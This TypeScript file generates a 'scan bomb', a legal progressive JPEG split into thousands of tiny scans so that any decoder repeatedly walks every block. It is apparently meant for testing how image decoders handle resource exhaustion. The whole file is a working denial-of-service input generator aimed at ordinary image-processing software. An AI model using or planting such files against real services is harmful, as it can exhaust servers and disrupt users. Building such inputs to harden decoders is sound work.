/** The longest run of empty blocks that one symbol of a progressive JPEG can stand for. */
const LONGEST_RUN = 32_767

const segment = (marker: number, ...parts: Uint8Array[]): Buffer => {
  const body = Buffer.concat(parts)
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([head, body])
}

/** A Huffman table whose codes all have the same length, numbered from zero. */
const table = (kind: 'dc' | 'ac', codeLength: number, symbols: number[]): Buffer => {
  const counts = Buffer.alloc(16)
  counts[codeLength - 1] = symbols.length
  return segment(0xc4, Buffer.from([kind === 'ac' ? 0x10 : 0]), counts, Buffer.from(symbols))
}

function packBits(bits: string): Buffer {
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1')
  const bytes: number[] = []
  for (let at = 0; at < padded.length; at += 8) {
    const byte = Number.parseInt(padded.slice(at, at + 8), 2)
    bytes.push(byte)
    // A byte of ones must not look like a marker.
    if (byte === 0xff) bytes.push(0)
  }
  return Buffer.from(bytes)
}

/** "All blocks are empty", in as few bits as the format allows. */
function emptyScan(blocks: number): Buffer {
  let bits = ''
  for (let left = blocks; left > 0; ) {
    const run = Math.min(left, LONGEST_RUN)
    const size = Math.floor(Math.log2(run))
    const extra = size === 0 ? '' : (run - 2 ** size).toString(2).padStart(size, '0')
    bits += size.toString(2).padStart(4, '0') + extra
    left -= run
  }
  return packBits(bits)
}

/**
 * A legal progressive JPEG without a single warning, in which every bit of every coefficient is a
 * scan of its own: 3 x 63 x 14 = 2,646 scans of some 60 bytes, each of which makes the decoder
 * walk over all blocks.
 */
export function scanBomb(width: number, height: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const frame = Buffer.from([8, 0, 0, 0, 0, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
  frame.writeUInt16BE(height, 1)
  frame.writeUInt16BE(width, 3)
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.from([0]), Buffer.alloc(64, 16)),
    segment(0xc2, frame),
    table('dc', 1, [0]),
    table(
      'ac',
      4,
      Array.from({ length: 15 }, (_, size) => size << 4),
    ),
    segment(0xda, Buffer.from([3, 1, 0, 2, 0, 3, 0, 0, 0, 0])),
    Buffer.alloc(Math.ceil((blocks * 3) / 8)),
  ]
  const empty = emptyScan(blocks)
  for (let bit = 13; bit >= 0; bit -= 1) {
    const precision = bit === 13 ? bit : ((bit + 1) << 4) | bit
    for (let component = 1; component <= 3; component += 1) {
      for (let k = 1; k < 64; k += 1) {
        parts.push(segment(0xda, Buffer.from([1, component, 0, k, k, precision])), empty)
      }
    }
  }
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])])
}
